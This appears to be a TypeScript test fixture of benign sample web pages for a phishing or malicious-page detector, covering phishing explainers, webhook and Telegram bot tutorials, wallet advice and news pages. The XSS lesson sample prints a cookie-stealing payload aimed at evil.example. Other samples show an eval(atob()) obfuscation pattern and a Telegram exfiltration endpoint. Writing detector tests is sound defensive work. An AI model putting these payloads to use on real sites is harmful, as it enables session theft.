import type { GivenDraft } from "./given-draft.ts"
import { site } from "./innocent-site.ts"

const shown = (code: string) =>
  `<pre><code>${code.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;")}</code></pre>`
const prose = (sentence: string, times = 15) => `<p>${`${sentence} `.repeat(times)}</p>`

/** Texts about what is screened for. */
export const innocentTexts: ReadonlyArray<GivenDraft> = [
  site(
    "an article about phishing with code",
    "How a PayPal phishing page works",
    `<h1>How a PayPal phishing page works</h1>${prose("Attackers copy the sign-in page and change where the form goes.")}${shown(`<form action="next.php"><input type="password" name="pass"></form>`)}${shown(`fetch("https://api.telegram.org/bot123:AA/sendMessage")`)}<p>Never type your password into a page you did not open yourself.</p>`,
  ),
  site(
    "a security blog with accounts",
    "Fake Microsoft login pages, dissected – Blue Team Weekly",
    `<header><form action="/login" method="post"><input name="u"><input type="password" name="p"><button>Log in</button></form></header><h1>Fake Microsoft login pages, dissected</h1>${prose("The page says sign in to your Microsoft account and asks for a password.", 40)}`,
  ),
  site(
    "a webhooks tutorial",
    "Discord webhooks in five minutes",
    `<h1>Discord webhooks</h1>${shown(`curl -X POST https://discord.com/api/webhooks/ID/TOKEN -d '{"content":"hi"}'`)}${prose("A webhook is a URL that posts a message.")}`,
  ),
  site(
    "a Telegram bot tutorial with a script for tabs",
    "Write a Telegram bot",
    `<h1>Write a Telegram bot</h1>${shown(`const url = "https://api.telegram.org/bot" + TOKEN + "/sendMessage"`)}<script>document.querySelectorAll(".tab").forEach(t=>t.onclick=()=>t.classList.toggle("open"))</script>`,
  ),
  site(
    "documentation with a base64 example",
    "atob() and btoa() explained",
    `<h1>atob()</h1><p>Decodes base64.</p>${shown(`atob("SGVsbG8gd29ybGQ=") // Hello world`)}<button onclick="out.textContent=atob('SGVsbG8gd29ybGQ=')">Try it</button><output id="out"></output>`,
  ),
  site(
    "documentation of eval",
    "Why eval() is slow",
    `<h1>eval()</h1>${shown(`eval(atob("..."))\ndocument.write(unescape("%3Cscript%3E"))`)}${prose("Engines cannot optimise what they have not seen.")}`,
  ),
  site(
    "a crypto portfolio that mentions seed phrases",
    "Ledgerless: my portfolio",
    `<h1>Portfolio</h1><table><tr><td>Bitcoin</td><td>0.2</td></tr><tr><td>Ethereum</td><td>3</td></tr></table><p>We never ask for your seed phrase or recovery phrase. Keep your 12 words offline.</p><form action="/alerts" method="post"><input type="email" name="email" placeholder="Email for alerts"><button>Alert me</button></form>`,
  ),
  site(
    "advice on wallets",
    "How to store a seed phrase (MetaMask, Ledger, Trezor)",
    `<h1>How to store a seed phrase</h1>${prose("Write your recovery phrase on steel and never type it into a website.")}<form action="/search"><input name="q" placeholder="Search articles"></form>`,
  ),
  site(
    "a guide to Google accounts",
    "Secure your Google account in ten steps",
    `<h1>Secure your Google account</h1><ol><li>Sign in to your Google account.</li><li>Choose Security.</li><li>Turn on a passkey.</li></ol>${prose("It takes five minutes.")}`,
  ),
  site(
    "a comparison",
    "PayPal vs Stripe for small shops",
    `<h1>PayPal vs Stripe</h1>${prose("Fees, disputes and payouts compared.")}<form action="/newsletter"><input type="email" name="e"></form>`,
  ),
  site(
    "a review with a comment form",
    "Netflix in October: what to watch",
    `<h1>What to watch on Netflix</h1>${prose("Three films and a series.")}<form action="/comment" method="post"><input name="name"><input name="email" type="email"><textarea name="c"></textarea></form>`,
  ),
  site(
    "news of a bank",
    "Santander closes forty branches",
    `<h1>Santander closes forty branches</h1>${prose("The bank said that customers use its app.")}<footer>© 2026 Northern Post</footer>`,
  ),
  site(
    "a fan page",
    "Minecraft builds",
    `<h1>Minecraft castle gallery</h1><img src="castle.png" alt="A castle">${prose("Built in a week.")}`,
  ),
  site(
    "homoglyphs explained",
    "Homoglyphs: when аpple is not apple",
    `<h1>Homoglyphs</h1><p>In <b>аррӏе</b> every letter is Cyrillic.</p>${prose("Browsers show punycode for such names.")}`,
  ),
  site(
    "a page in Russian that names brands",
    "Ремонт ноутбуков Apple и Samsung",
    `<h1>Ремонт ноутбуков</h1><p>Чиним Apple, Samsung и Lenovo за один день.</p><form action="/zayavka" method="post"><input name="phone" placeholder="Телефон"><button>Отправить</button></form>`,
  ),
  site(
    "HTML injection lesson",
    "Cross-site scripting by example",
    `<h1>XSS</h1>${shown(`<img src=x onerror="new Image().src='https://evil.example/?c='+document.cookie">`)}${shown(`<iframe src="data:text/html;base64,PHNjcmlwdD4="></iframe>`)}${prose("Escape what you print.")}`,
  ),
  site(
    "a style guide for forms",
    "Form controls",
    `<h1>Form controls</h1><label>Text <input type="text"></label><label>Password <input type="password"></label><label>Number <input type="number"></label><label>Date <input type="date"></label><label>Colour <input type="color"></label>`,
  ),
]
